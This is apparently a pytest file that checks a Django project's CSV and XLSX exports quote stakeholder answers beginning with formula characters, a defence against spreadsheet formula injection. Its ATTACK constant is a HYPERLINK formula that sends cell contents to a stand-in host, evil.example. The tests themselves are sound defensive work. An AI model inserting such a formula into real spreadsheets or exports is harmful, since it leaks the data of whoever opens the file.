"""A stakeholder's answer that starts like a spreadsheet formula is exported as text."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from atis.core.exports import safe_cell, safe_row
from atis.core.roles import Role
from atis.monitoring import reports, selectors, services
from atis.statistics import exports
from atis.statistics.tables.base import Table

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("text", [ATTACK, "+381 11 123", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_leading_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


def test_other_values_are_kept():
    assert safe_row(["Two courses", 5, -3, None, 1.5, "a=b"]) == [
        "Two courses", 5, -3, None, 1.5, "a=b"]


def test_the_answers_export_keeps_a_formula_answer_as_text(campaign, rapporteur, make_user,
                                                          org):
    question = services.question_add(actor=rapporteur, campaign=campaign, unit="prevention",
                                     number="3.1", text="Trainings attended?")
    services.questionnaires_send(actor=rapporteur, campaign=campaign,
                                 organisations=[org("astra")], kind="general",
                                 legal_basis="request")
    questionnaire = campaign.questionnaires.get()
    services.answers_save(actor=make_user(Role.PARTNER_CASEWORKER, "astra"),
                          questionnaire=questionnaire, answers={str(question.pk): ATTACK})
    rows = selectors.answers_table(user=rapporteur, campaign=campaign)
    book = load_workbook(io.BytesIO(reports.answers_xlsx(rows, user=rapporteur, campaign=campaign)))
    for sheet in book.worksheets:
        answers = [row[5] for row in sheet.iter_rows(min_row=2)]
        assert [cell.value for cell in answers] == ["'" + ATTACK]
        assert all(cell.data_type == "s" for cell in answers)  # text, not a formula


def test_statistics_csv_and_xlsx_quote_formula_leading_text():
    table = Table(id="t", title="=title", definition="@definition", dimensions=["form"],
                  cells=[{"form": ATTACK, "count": 3}], sources=["-source"])
    archive = zipfile.ZipFile(io.BytesIO(exports.to_csv({}, {"t": table})))
    rows = list(csv.reader(io.StringIO(archive.read("t.csv").decode())))
    assert rows[0] == ["form", "count", "suppressed", "at_least"]
    assert rows[1] == ["'" + ATTACK, "3", "False", ""]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx({}, {"t": table})))["t"]
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'=title" in values and "'@definition" in values and "'" + ATTACK in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
